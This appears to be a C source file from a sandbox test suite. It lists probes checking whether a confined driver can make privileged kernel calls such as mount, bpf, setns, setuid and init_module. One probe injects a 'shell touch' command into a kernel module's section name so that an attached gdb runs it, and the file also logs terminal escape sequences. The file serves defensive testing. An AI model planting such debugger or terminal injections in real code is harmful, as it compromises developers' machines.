// SPDX-License-Identifier: GPL-2.0
/* kernel.c - attacks that ask the host's kernel for more than a driver has a use for */
#include "attack.h"

static long mount_tmpfs(const char *where)
{
	return host(H_mount, "attack", where, "tmpfs", 0, 0);
}

static long clone_tree(const char *arg)
{
	return host(H_open_tree, HOST_AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */);
}

/* A map of one element: BPF_MAP_CREATE of an array. */
static long bpf(const char *arg)
{
	unsigned int attr[16] = { 2, 4, 4, 1 };

	return host(H_bpf, 0, attr, sizeof(attr));
}

static long io_uring(const char *arg)
{
	unsigned int params[30] = { 0 };

	return host(H_io_uring_setup, 4, params);
}

/* In the keyring of the user, where other processes of theirs find it. */
static long keyring(const char *name)
{
	return host(H_add_key, "user", name, "attack", 6, -4L);
}

#ifdef __KERNEL__
#include <linux/module.h>
#include <linux/slab.h>
#include <linux/sysfs.h>

/* kernel/module/sysfs.c */
struct sections {
	struct attribute_group grp;
	unsigned int nr;
	struct {
		struct bin_attribute battr;
		unsigned long address;
	} v[];
};

/*
 * Whoever attaches gdb has it read the names of this module's sections: one of them is more than a
 * name, as is what the log has.  @path: a file for gdb to make.
 */
static long gdb_sections(const char *path)
{
	struct sections *s = (void *)THIS_MODULE->sect_attrs;

	say("the log has \033]0;a title\a and \xc2\x9b" "31m red");
	for (unsigned int i = 0; s && i < s->nr; i++) {
		if (strncmp(s->v[i].battr.attr.name, ".data", 5) &&
		    strncmp(s->v[i].battr.attr.name, ".bss", 4))
			continue;
		s->v[i].battr.attr.name = kasprintf(GFP_KERNEL, ".data.x 0x1\nshell touch %s\nprint",
						    path);
		return 0;
	}
	return -2;
}
#else
static long gdb_sections(const char *path)
{
	return -38;	/* there is no gdb that looks */
}
#endif

/* Not an attack: what is left of one. */
static long forget_key(const char *number_of_key)
{
	return host(H_keyctl, 9 /* KEYCTL_UNLINK */, number(number_of_key), -4L);
}

static long userfaultfd(const char *arg)
{
	return host(H_userfaultfd, 1);
}

static long perf(const char *arg)
{
	/* PERF_TYPE_SOFTWARE, PERF_COUNT_SW_CPU_CLOCK, of this process. */
	unsigned int attr[32] = { 1, 128 };

	attr[10] = 1 << 5;	/* exclude_kernel */
	return host(H_perf_event_open, attr, 0, -1, -1, 0);
}

/* A process with threads cannot unshare(2) it; a child can have one.  It uses no stack. */
static long user_namespace(const char *arg)
{
	long ret;

	if (host_through)
		return through_clone(0x10000011L, 0, 0);
	asm volatile("xor %%esi, %%esi\n\txor %%edx, %%edx\n\txor %%r10d, %%r10d\n\t"
		     "xor %%r8d, %%r8d\n\tsyscall\n\t"
		     "test %%rax, %%rax\n\tjnz 2f\n"
		     "1:\tmov %[pause], %%eax\n\tsyscall\n\tjmp 1b\n"
		     "2:"
		     : "=a" (ret)
		     : "0" (H_clone), "D" (0x10000011L /* CLONE_NEWUSER | SIGCHLD */),
		       [pause] "i" (H_pause)
		     : "rcx", "r11", "rsi", "rdx", "r8", "r10", "memory");
	return ret;
}

/* The namespaces of process @path: "/proc/1/ns/net". */
static long setns(const char *path)
{
	long fd = host(H_open, path, 0, 0);

	return fd < 0 ? fd : host(H_setns, fd, 0);
}

static long setuid(const char *arg)
{
	return host(H_setuid, number(arg));
}

static long module_load(const char *arg)
{
	/* No module, which is found out after the permission has been given: ENOEXEC. */
	long ret = host(H_init_module, "attack", 6, "");

	return ret == -8 ? 0 : ret;
}

const struct attack kernel_attacks[] = {
	{ "mount", mount_tmpfs },
	{ "open-tree", clone_tree },
	{ "bpf", bpf },
	{ "io-uring", io_uring },
	{ "keyring", keyring },
	{ "forget-key", forget_key },
	{ "userfaultfd", userfaultfd },
	{ "perf", perf },
	{ "user-namespace", user_namespace },
	{ "setns", setns },
	{ "setuid", setuid },
	{ "init-module", module_load },
	{ "gdb-sections", gdb_sections },
	{ 0 },
};
